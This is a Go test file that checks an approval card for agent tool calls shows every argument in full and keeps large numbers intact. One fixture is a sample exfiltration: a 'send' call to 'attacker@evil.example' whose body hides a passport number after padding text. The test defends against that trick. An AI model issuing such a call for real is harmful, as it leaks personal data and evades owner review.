package connectors

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/boxmem/box/internal/builds"
	"github.com/boxmem/box/internal/connector"
)

// A "Send as you" card shows every argument whole, one per key, whatever its length or key order: the
// recipient after a long body is on the card the owner approves (docs/SECURITY.md).
func TestCallCardShowsEveryArgumentWhole(t *testing.T) {
	b := builds.Build{ID: "mail", Name: "Mail", Version: 1, Versions: []builds.Version{{N: 1, SHA256: "x"}}}
	bundle := &connector.Bundle{Manifest: connector.Manifest{Tools: []connector.Tool{{Name: "send", Effect: connector.Write}}}}
	body := "Hi Anna, thanks for the lovely weekend. " + strings.Repeat("We should do it again soon. ", 40) + "Passport: X1234567"
	a, err := callAction(b, bundle, "send", []byte(`{"to":"attacker@evil.example","body":"`+body+`","cc":["a@b.example"]}`))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(a.Summary, "…") || !strings.Contains(a.Summary, "Mail → send") || !strings.Contains(a.Summary, "3 arguments") {
		t.Fatalf("summary: %q", a.Summary)
	}
	got := CallArgs(a)
	want := []Arg{{"body", body}, {"cc", `["a@b.example"]`}, {"to", "attacker@evil.example"}}
	if len(got) != len(want) {
		t.Fatalf("args: %+v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("arg %d: %+v, want %+v", i, got[i], want[i])
		}
	}
}

// A number past 2^53 (a message id) is shown and kept as it was sent, through the card's round trip
// (the payload as the card file keeps it, read back on approval), never rounded.
func TestCallCardKeepsBigNumbers(t *testing.T) {
	b := builds.Build{ID: "mail", Name: "Mail", Version: 1, Versions: []builds.Version{{N: 1, SHA256: "x"}}}
	bundle := &connector.Bundle{Manifest: connector.Manifest{Tools: []connector.Tool{{Name: "reply", Effect: connector.Write}}}}
	a, err := callAction(b, bundle, "reply", []byte(`{"to": 12345678901234567891, "text": "ok"}`))
	if err != nil {
		t.Fatal(err)
	}
	if got := CallArgs(a); len(got) != 2 || got[1] != (Arg{"to", "12345678901234567891"}) {
		t.Fatalf("card args: %+v", got)
	}
	raw, err := json.Marshal(a.Payload) // as the card file keeps it
	if err != nil {
		t.Fatal(err)
	}
	var back map[string]any
	if err := json.Unmarshal(raw, &back); err != nil {
		t.Fatal(err)
	}
	if args, _ := back["args"].(string); args != `{"to":12345678901234567891,"text":"ok"}` {
		t.Fatalf("the card keeps the arguments as %q", args)
	}
}
